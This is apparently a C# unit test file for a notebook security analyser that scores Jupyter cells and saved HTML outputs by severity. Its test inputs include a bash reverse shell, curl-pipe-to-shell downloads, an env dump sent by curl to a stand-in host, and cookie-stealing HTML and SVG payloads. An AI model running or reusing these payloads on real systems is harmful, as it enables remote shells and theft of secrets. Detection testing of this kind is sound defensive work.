using System.Text;
using System.Text.Json;
using Assay.Analysis.Testing;
using Assay.Contracts.Values;
using Assay.Inspect.Analysers.Notebook;

namespace Assay.Tests.Unit.Inspect.Analysers.Notebook;

public sealed class NotebookAnalyserTests
{
    private static Task<TestBedResult> Cell(string source, object? outputs = null) => Run(JsonSerializer.Serialize(new
    {
        cells = new[] { new { cell_type = "code", source = source.Split('\n').Select(l => l + "\n").ToArray(), outputs = outputs ?? Array.Empty<object>() } },
        nbformat = 4,
    }));

    private static Task<TestBedResult> Run(string json) =>
        TestBed.For(new NotebookAnalyser()).WithBytes(Encoding.UTF8.GetBytes(json)).As(FileFormat.Notebook).RunAsync(TestContext.Current.CancellationToken);

    [Theory]
    [InlineData("import os\nos.system('echo assay-canary')", Severity.Critical)]
    [InlineData("!curl -s http://127.0.0.1:9/x | bash", Severity.High)]
    [InlineData("%%bash\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1", Severity.Critical)]
    [InlineData("%time __import__('os').system('echo assay-canary')", Severity.Critical)]
    [InlineData("x = !env | curl -d @- http://127.0.0.1:9/", Severity.Critical)]
    [InlineData("get_ipython().system('echo assay-canary')", Severity.Critical)]
    [InlineData("%%perl\nsystem('curl http://127.0.0.1:9/x | sh');", Severity.High)]
    [InlineData("%run http://127.0.0.1:9/x.py", Severity.High)]
    public async Task Cells_that_would_harm_are_reported(string source, Severity severity) => ((await Cell(source)).Worst >= severity).ShouldBeTrue();

    [Theory]
    [InlineData("!pip install -q transformers\n!nvidia-smi\n%matplotlib inline\nimport torch\n%cd /content\nmodel?")]
    [InlineData("!wget https://example.com/x.zip\n!unzip -q x.zip\n!rm -rf sample_data\nfrom google.colab import drive")]
    [InlineData("%run utils.py\n%load solution.py")]
    [InlineData("%%R\nlibrary(ggplot2)\nsystem('ls')")]
    [InlineData("%%writefile train.sh\ncurl http://x | sh")]
    public async Task Honest_cells_are_low_at_most(string source) => ((await Cell(source)).Worst > Severity.Low).ShouldBeFalse();

    [Theory]
    [InlineData("<script>Jupyter.notebook.kernel.execute('x')</script>", Severity.High)]
    [InlineData("<img src=x onerror=\"fetch('http://127.0.0.1:9/')\">", Severity.High)]
    [InlineData("<script src=\"https://collect.invalid/x.js\"></script>", Severity.Medium)]
    [InlineData("<div><script src=\"https://cdn.plot.ly/plotly.js\"></script><script>Plotly.newPlot()</script></div>", Severity.Low)]
    public async Task Saved_outputs_are_read(string html, Severity severity) =>
        (await Cell("1", new[] { new { output_type = "display_data", data = new Dictionary<string, string> { ["text/html"] = html } } })).Worst.ShouldBe(severity);

    [Fact]
    public async Task The_pieces_of_a_source_are_joined_as_they_stand() =>
        (await Run("{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"os.\", \"system('echo assay-canary')\"]}]}")).Worst.ShouldBe(Severity.Critical);

    [Fact]
    public async Task A_drawing_attached_to_a_text_is_read()
    {
        var drawing = Convert.ToBase64String("<svg onload='fetch(\"http://127.0.0.1:9/\" + document.cookie)'/>"u8);

        (await Run($"{{\"cells\": [{{\"cell_type\": \"markdown\", \"source\": \"x\", \"attachments\": {{\"a.svg\": {{\"image/svg+xml\": \"{drawing}\"}}}}}}]}}")).Worst.ShouldBe(Severity.High);
    }

    [Theory]
    [InlineData("<html><body onload=\"init()\"><img src='a.png' onerror=\"this.style.display='none'\"><script>var l = document.cookie.match(/lang=(\\w+)/); fetch('/v1/chat')</script></body></html>", Severity.Low)]
    [InlineData("<html><script>var x = new ActiveXObject('Microsoft.XMLHTTP')</script></html>", Severity.Low)]
    [InlineData("<html><body onload=\"fetch('/api/x?' + document.cookie)\"></body></html>", Severity.High)]
    [InlineData("<html><script>location = '//collect.invalid/' + document.cookie</script></html>", Severity.High)]
    [InlineData("<html><script>new ActiveXObject('WScript.Shell').Run('x')</script></html>", Severity.High)]
    public async Task Pages_are_judged_by_what_leaves_them(string page, Severity severity) =>
        (await TestBed.For(new NotebookAnalyser()).WithBytes(Encoding.UTF8.GetBytes(page)).As(FileFormat.Markup).RunAsync(TestContext.Current.CancellationToken)).Worst.ShouldBe(severity);

    [Fact]
    public async Task A_cut_notebook_is_read_as_far_as_it_goes()
    {
        var result = await Run("{\"cells\": [{\"cell_type\": \"code\", \"source\": \"import os\\nos.system('id')\"}, {\"cell_ty");

        result.Worst.ShouldBe(Severity.Critical);
        result.Rules.ShouldContain("ASY-NBK-004");
    }
}
